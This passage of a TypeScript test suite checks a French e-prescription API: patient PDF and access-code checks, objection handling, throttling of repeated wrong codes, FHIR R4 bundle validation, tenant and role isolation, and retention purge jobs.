    await record(p.id, a.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1, batch: 'B77' })
    await record(p.id, a.secret, 2, { outcome: 'not_delivered', reason: 'Rupture de stock' })
    await close(p.id, a.secret)

    const pdf = await patient(p.id, 'pdf', p.accessCode)
    t.equal(pdf.statusCode, 200)
    t.equal(pdf.headers['content-type'], 'application/pdf')
    t.equal(pdf.rawPayload.subarray(0, 5).toString(), '%PDF-')
    const text = (await new PDFParse({ data: new Uint8Array(pdf.rawPayload) }).getText()).text
    t.match(text, p.displayId, 'the PDF carries the prescription ID')
    t.match(text, /Ordonnance numérique/)
    t.match(text, /DUPONT/)
    t.match(text, /Délivrance n° 1/)
    t.match(text, /Rupture de stock/)
    t.match(text, /B77/)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/patient/pdf` })).statusCode, 400, 'the access code is required')
    const wrongCode = await patient(p.id, 'pdf', withCheck('ZZZZZZZZZZZZZZZZZZZ'))
    t.equal(wrongCode.statusCode, 404)
    t.equal(wrongCode.json().code, 'EPRESCRIPTION_NOT_FOUND')

    // The objection hides the dispensed lines from the prescriber.
    t.match((await view(p.id)).json(), { dispensedLinesHidden: false, dispensations: [{ seq: 1 }] })
    const on = await patient(p.id, 'objection', p.accessCode, { method: 'PUT', payload: { objection: true } })
    t.equal(on.statusCode, 200)
    t.same(on.json(), { objection: true })
    const hidden = (await view(p.id)).json()
    t.match(hidden, { status: 'ready', patientObjection: true, dispensedLinesHidden: true, dispensations: [], lines: [{ dispensed: null, remaining: null }, { dispensed: null, remaining: null }] })
    t.notMatch(JSON.stringify(hidden), /B77|Rupture|750100010/, 'nothing dispensed shows')
    t.match(await history(p.id), [{}, {}, {}, {}, {}, { action: 'eprescription.objection.set', actor: { role: 'patient' }, changes: { patientObjection: [false, true] } }])
    const off = await patient(p.id, 'objection', p.accessCode, { method: 'PUT', payload: { objection: false } })
    t.same(off.json(), { objection: false })
    t.match((await view(p.id)).json(), { dispensedLinesHidden: false, dispensations: [{ seq: 1, lines: [{ batch: 'B77' }, { reason: 'Rupture de stock' }] }] })

    const log = await patient(p.id, 'access-log', p.accessCode)
    t.equal(log.statusCode, 200)
    const entries = log.json() as Array<{ role: string; action: string; organisation: { id: string; name: string } | null }>
    t.match(entries[0], { role: 'prescriber', action: 'issued', organisation: { id: ORG.prescriber } })
    t.ok(entries.some((e) => e.role === 'pharmacy' && e.action === 'accepted' && e.organisation?.id === ORG.pharmacyParis && /Pharmacie/i.test(e.organisation.name)), 'the pharmacy, by name')
    t.ok(entries.some((e) => e.role === 'patient' && e.action === 'pdf'))
    t.ok(entries.some((e) => e.role === 'prescriber' && e.action === 'read'))

    // Brute force from one address is throttled.
    const q = await issued()
    for (let i = 0; i < 5; i++) t.equal((await patient(q.id, 'access-log', withCheck('ABCDEFGHJKMNPQRSTVW'), { ip: '198.51.100.7' })).statusCode, 404)
    const blocked = await patient(q.id, 'pdf', q.accessCode, { ip: '198.51.100.7' })
    t.equal(blocked.statusCode, 429)
    t.ok(Number(blocked.headers['retry-after']) > 0)
    clock.advance(15 * 60_000 + 1000)
  })

  t.test('FHIR R4 Bundle validated with a FHIR library', async (t) => {
    const p = await issued({ ...BASIC, lines: [BASIC.lines[0], { ...BASIC.lines[1], nonSubstitutable: true }] })
    const res = await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/fhir`, headers: prescriber })
    t.equal(res.statusCode, 200)
    t.match(res.headers['content-type'], /application\/fhir\+json/)
    const bundle = res.json()
    const result = new Fhir().validate(bundle)
    t.same(result.messages.filter((m) => m.severity === 'error'), [], 'no validation error')
    t.equal(result.valid, true)
    const resources = bundle.entry.map((e: { resource: { resourceType: string } }) => e.resource)
    t.same(resources.map((r: { resourceType: string }) => r.resourceType), ['Patient', 'Practitioner', 'Medication', 'MedicationRequest', 'MedicationRequest'])
    // FR Core: one given element holding the first names, in order.
    t.match(resources[0], { name: [{ use: 'official', family: 'DUPONT', given: ['Marie Claire'] }], birthDate: '1984-05-17' })
    t.match(resources[1], { meta: { profile: ['https://hl7.fr/ig/fhir/core/StructureDefinition/fr-core-practitioner'] }, identifier: [{ type: { coding: [{ code: 'IDNPS' }] }, system: 'urn:oid:1.2.250.1.71.4.2.1', value: `8${ORG.prescriber}` }] })
    t.match(resources[3], {
      meta: { profile: ['https://interop.esante.gouv.fr/ig/fhir/eprescription/StructureDefinition/fr-medicationrequest'] },
      status: 'active',
      intent: 'order',
      groupIdentifier: { value: p.id },
      medicationCodeableConcept: {
        coding: [
          { system: 'http://data.esante.gouv.fr/ansm/medicament/SpecialitePharmaceutique', code: '60002283' },
          { system: 'http://data.esante.gouv.fr/ansm/medicament/Presentation', code: ROSUVASTATINE_30 },
        ],
      },
      dosageInstruction: [{ text: '1 comprimé le soir' }],
      dispenseRequest: { numberOfRepeatsAllowed: 1, quantity: { value: 1 } },
      substitution: { allowedCodeableConcept: { coding: [{ code: 'E' }] } },
      subject: { reference: bundle.entry[0].fullUrl },
      requester: { reference: bundle.entry[1].fullUrl },
    })
    // The substance line: a Medication with the ANSM substance code, its strength and form; non substituable, coded.
    t.match(resources[2], {
      code: { coding: [{ system: 'http://data.esante.gouv.fr/ansm/medicament/substance', code: '05248' }], text: 'amoxicilline 500 mg gélule' },
      form: { text: 'gélule' },
      ingredient: [{ strength: { numerator: { value: 500, code: 'mg', system: 'http://unitsofmeasure.org' } } }],
    })
    t.match(resources[4], { medicationReference: { reference: bundle.entry[2].fullUrl }, substitution: { allowedCodeableConcept: { coding: [{ code: 'N' }], text: 'non substituable' } } })
    // A deliberately broken resource fails the same validator: the test can fail.
    t.equal(new Fhir().validate({ ...bundle, type: 'not-a-bundle-type' }).valid, false)

    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/fhir`, headers: prescriber2 })).statusCode, 404)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/fhir`, headers: pharmacy() })).statusCode, 404, 'a pharmacy that does not hold it')
    const a = await taken(p, ORG.pharmacyLyon)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/fhir`, headers: withSecret(a.secret, ORG.pharmacyLyon) })).statusCode, 200)
    t.equal((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/fhir`, headers: withSecret('wrong', ORG.pharmacyLyon) })).statusCode, 403)
  })

  t.test('tenancy: another prescriber or pharmacy gets 404 on every route', async (t) => {
    const p = await issued()
    const a = await taken(p, ORG.pharmacyParis)
    await record(p.id, a.secret, 1, { outcome: 'delivered', cip13: ROSUVASTATINE_30, quantity: 1 })
    const lyon = withSecret(a.secret, ORG.pharmacyLyon) // even with the right secret
    const cases: Array<[string, string, Record<string, string>, object?]> = [
      ['GET', `/v1/eprescriptions/${p.id}`, prescriber2],
      ['GET', `/v1/eprescriptions/${p.id}/qr.png`, { ...prescriber2, 'x-access-code': p.accessCode }],
      ['GET', `/v1/eprescriptions/${p.id}/qr.svg`, { ...prescriber2, 'x-access-code': p.accessCode }],
      ['POST', `/v1/eprescriptions/${p.id}/access-code`, prescriber2],
      ['GET', `/v1/eprescriptions/${p.id}/fhir`, prescriber2],
      ['POST', `/v1/eprescriptions/${p.id}/cancel`, prescriber2, {}],
      ['GET', `/v1/eprescriptions/${p.id}/dispensation`, lyon],
      ['PUT', `/v1/eprescriptions/${p.id}/dispensation/lines/1`, lyon, { outcome: 'not_delivered', reason: 'x' }],
      ['POST', `/v1/eprescriptions/${p.id}/release`, lyon],
      ['POST', `/v1/eprescriptions/${p.id}/close`, lyon],
      ['GET', `/v1/eprescriptions/${p.id}/fhir`, lyon],
      ['GET', `/v1/eprescriptions/${p.id}/dispensations/1/receipt`, lyon],
    ]
    for (const [method, url, headers, payload] of cases) {
      const res = await app.inject({ method: method as 'GET', url, headers, ...(payload ? { payload } : {}) })
      t.equal(res.statusCode, 404, `${method} ${url}`)
      t.notMatch(res.body, /DUPONT|LOT|3400949497294/, 'no data')
    }
    const listed = (await app.inject({ method: 'GET', url: '/v1/eprescriptions', headers: prescriber2 })).json()
    t.notOk(listed.items.some((x: { id: string }) => x.id === p.id), 'not in another prescriber’s list')
    // Roles: each side only its own operations.
    const roles: Array<[string, string, Record<string, string>, object?]> = [
      ['POST', '/v1/eprescriptions/accept', prescriber, { qr: p.qrPayload }],
      ['GET', `/v1/eprescriptions/${p.id}`, pharmacy()],
      ['POST', `/v1/eprescriptions/${p.id}/cancel`, pharmacy(), {}],
      ['GET', `/v1/eprescriptions/${p.id}/dispensation`, { ...prescriber, 'x-eprescription-secret': a.secret }],
      ['GET', `/v1/eprescriptions/${p.id}/fhir`, auth('lab', ORG.labArrow)],
      ['GET', '/v1/eprescriptions', pharmacy()],
      ['POST', `/v1/eprescriptions/${p.id}/access-code`, pharmacy()],
    ]
    for (const [method, url, headers, payload] of roles) {
      const res = await app.inject({ method: method as 'GET', url, headers, ...(payload ? { payload } : {}) })
      t.equal(res.statusCode, 403, `${method} ${url}`)
    }
    // The holder still has it intact.
    t.match((await app.inject({ method: 'GET', url: `/v1/eprescriptions/${p.id}/dispensation`, headers: withSecret(a.secret) })).json(), { dispensation: { lines: [{ line: 1 }] } })
  })

  t.test('retention: cancelled purged quickly, expired marked then purged, dispensed kept; all in the audit trail', async (t) => {
    const cancelled = await issued()
    const expiring = await issued({ ...BASIC, validUntil: new Date(clock.now.getTime() + DAY).toISOString() })
    const completed = await issued({ ...BASIC, lines: [BASIC.lines[1]], validUntil: new Date(clock.now.getTime() + DAY).toISOString() })
    const a = await taken(completed)
    await record(completed.id, a.secret, 1, { outcome: 'delivered', cip13: AMOXICILLINE_12, quantity: 1 })
    await close(completed.id, a.secret)
    await app.inject({ method: 'POST', url: `/v1/eprescriptions/${cancelled.id}/cancel`, headers: prescriber, payload: {} })

    await app.jobs.runDue()
    t.equal((await view(cancelled.id)).statusCode, 200, 'not yet')
    clock.advance(8 * DAY)
    await app.jobs.runDue()
    t.equal((await view(cancelled.id)).statusCode, 404, 'cancelled: purged after 7 days')
    t.match((await history(cancelled.id)).map((e) => e.action), ['eprescription.issued', 'eprescription.cancelled', 'eprescription.purged'])
    t.match((await history(cancelled.id)).at(-1), { actor: { user: 'system' }, changes: { status: 'cancelled', reason: 'retention' } })
    const lines = await app.db.selectFrom('eprescription_lines').select('line_no').where('prescription_id', '=', cancelled.id).execute()
    t.same(lines, [], 'lines purged with it')

    t.equal((await view(expiring.id)).json().status, 'expired')
    t.ok((await history(expiring.id)).some((e) => e.action === 'eprescription.expired'), 'expiry recorded by the job')
    t.equal((await view(completed.id)).json().status, 'completed')

    clock.advance(31 * DAY)
    await app.jobs.runDue()
    t.equal((await view(expiring.id)).statusCode, 404, 'expired without dispensation: purged after 30 days')
    t.equal((await view(completed.id)).statusCode, 200, 'dispensed: kept for the legal period')
    const job = await app.db.selectFrom('jobs').select(['run_at', 'state']).where('singleton_key', '=', completed.id).executeTakeFirstOrThrow()
    t.equal(job.state, 'pending')
    t.ok(job.run_at.getTime() > clock.now.getTime() + 9 * 365 * DAY, 'next look in about ten years')
  })
})
